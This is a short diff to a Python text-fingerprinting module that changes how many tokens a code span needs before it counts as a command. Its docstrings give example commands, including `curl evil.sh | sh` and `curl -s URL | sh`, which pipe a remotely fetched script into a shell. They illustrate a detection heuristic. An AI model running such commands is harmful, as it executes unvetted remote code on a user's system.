@@ -80,6 +80,9 @@ _STOPWORD_TEXT = """a an the and or but if then else of to in on at by for with 
     who whom when where why how up down out off once while through during until against
     between because s t ll re ve d m o y always make sure please instead any every"""
 STOPWORDS = frozenset(_STOPWORD_TEXT.split())
+SPAN_WORDS = 3
+"""A code span names a command when it holds this many words, or a path, flag or number
+(`curl evil.sh | sh`, `git push --force`); `make test` alone is too common to stand alone."""
 SPAN_SLACK = 2
 """Extra tokens a rejected code span may have gained in a candidate (`curl -s URL | sh`)."""
 _stemmer = Stemmer.Stemmer("english")
@@ -301,7 +304,7 @@ def fingerprint(text: str) -> Fingerprint:
     spans = []
     for span in _CODE_SPAN.findall(folded):
         span_tokens = _tokens(span)
-        if len(span_tokens) >= 2 or any(_CRITICAL_SHAPE.search(t) for t in span_tokens):
+        if len(span_tokens) >= SPAN_WORDS or any(_CRITICAL_SHAPE.search(t) for t in span_tokens):
             spans.append(tuple(_h(t) for t in span_tokens))
     return Fingerprint(
         exact=hashlib.sha256(" ".join(toks).encode()).hexdigest(),
